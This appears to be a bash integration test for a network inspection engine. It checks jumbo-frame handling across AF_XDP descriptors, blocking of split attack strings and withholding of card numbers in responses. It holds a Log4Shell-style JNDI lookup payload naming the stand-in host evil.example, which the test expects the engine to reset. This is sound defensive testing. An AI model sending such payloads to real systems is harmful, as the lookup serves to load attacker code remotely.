#!/usr/bin/env bash
# With an MTU of 9000 a frame takes several descriptors: a download arrives whole, and nothing hides where one of them ends
# and the next begins.
set -euo pipefail
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

mtu_bytes=9000
bulk_bytes=50000000
# Where in a page a number stands, at least: within what a server sends at once, in full segments.
split_from=20000
attack="\${jndi:ldap://evil.example/a}"
# Of a UMEM frame of 4096 bytes, the kernel keeps 256.
desc_bytes=3840
# Headers of Ethernet, IPv4 and TCP with timestamps.
frame_header_bytes=$((14 + 20 + 32))
border=$((desc_bytes - frame_header_bytes))
segment_bytes=$((mtu_bytes - 20 - 32))

widen() {
    local port
    for port in outside inside bridge; do
        ip -n "$lab_prefix-middle" link set dev "$port" mtu "$mtu_bytes"
    done
    ip -n "$lab_prefix-client" link set dev to-server mtu "$mtu_bytes"
    ip -n "$lab_prefix-server" link set dev to-client mtu "$mtu_bytes"
}

# sent BYTES|PACKETS: what the server's device sent so far.
sent() { ip -n "$lab_prefix-server" -j -s link show dev to-client | jq ".[0].stats64.tx.$1"; }

# whole URL: whether the big file arrives as it is, in frames that take several descriptors.
whole() {
    local before_bytes before_frames
    before_bytes=$(sent bytes) before_frames=$(sent packets)
    fetch "$dir/got" "$1"
    cmp -s "$dir/got" "$dir/site/pages/bulk.bin" &&
        [[ $((($(sent bytes) - before_bytes) / ($(sent packets) - before_frames))) -gt $desc_bytes ]]
}

# request_with WORD BYTES: a request in which so many bytes of a word are in the first descriptor of its frame.
request_with() {
    local begin="GET /?x=" word=$1 padding
    padding=$(head -c "$((border - ${#begin} - $2))" /dev/zero | tr '\0' a)
    fetch "$dir/got" "http://$server_v4/?x=$padding$word" -H 'Host: jumbo.example' -A "$3"
}

# response_with DIGITS: a page in which so many digits of a card number are in the first descriptor of their frame.
response_with() {
    local offset bytes
    # Where the page's segments begin follows from the length of the response's header.
    offset=$((split_from + segment_bytes - (split_from + header_bytes - border + $1) % segment_bytes))
    page_with "$offset" "$card" >"$dir/site/pages/split.txt"
    fetch "$dir/got" "http://$server_v4/split.txt"
    bytes=$(stat -c %s "$dir/got")
    check_equal "$attach: a card number behind its digit $1: reset with $bytes bytes received" "$curl_exit" 56
    check_equal "$attach: and it was in the middle of the next frame" $(((bytes + header_bytes) % segment_bytes)) 0
    [[ $bytes -lt $offset ]] || fail "the number is complete at the client"
    cmp -s -n "$bytes" "$dir/got" "$dir/site/pages/split.txt" || fail "what was received is not what was sent"
}

# carries ATTACH
carries() {
    local attach=$1 bytes
    engine_write_config "$dir/weir.toml" "$dir/eve.json"
    sed -i "/^on_engine_loss/a attach = \"$attach\"" "$dir/weir.toml"
    lab_start_engine case-jumbo
    check "$attach: frames take several descriptors" grep -q 'link is open.*multi_buffer=true' "$dir/engine.log"
    check "$attach: $bulk_bytes bytes arrive whole over IPv4" whole "http://$server_v4/bulk.bin"
    check "$attach: and over IPv6" whole "http://[$server_v6]/bulk.bin"
    for bytes in 0 1 7 14 28 29; do
        request_with "$attack" "$bytes" "attack-$attach-$bytes"
        check_equal "$attach: an attack of which $bytes bytes end a descriptor: reset" "$curl_exit" 56
        check_equal "$attach: the server saw nothing of it" "$(site_saw "attack-$attach-$bytes")" 0
    done
    request_with "${attack//jndi/jndj}" 7 "harmless-$attach"
    check "$attach: a harmless request of the same length arrives" site_logged "harmless-$attach"
    page_with "$split_from" "$no_card" >"$dir/site/pages/split.txt"
    fetch "$dir/got" "http://$server_v4/split.txt"
    header_bytes=$curl_header_bytes
    check "$attach: a number that is no card's arrives" cmp -s "$dir/got" "$dir/site/pages/split.txt"
    for digits in 0 1 8 15 16; do
        response_with "$digits"
    done
    engine_end TERM
    check_equal "$attach: the engine ends well" "$engine_exit" 0
    stats=$(jq -c 'select(.event_type == "stats")' "$dir/eve.json" | tail -n1)
    check "$attach: no descriptor was refused" holds \
        '[.stats.capture[] | .inside, .outside | .rx_invalid, .tx_invalid] | add == 0' "$stats"
    rm -f "$dir/eve.json"
}

if obstacle=$(lab_obstacle); then skip case-jumbo "$obstacle"; fi
lab_open jumbo
lab_up "weir-jumbo-$$"
lab_mount_bpffs
widen
site_up "$dir/site"
head -c "$bulk_bytes" /dev/urandom >"$dir/site/pages/bulk.bin"
carries native
carries generic
checks_close
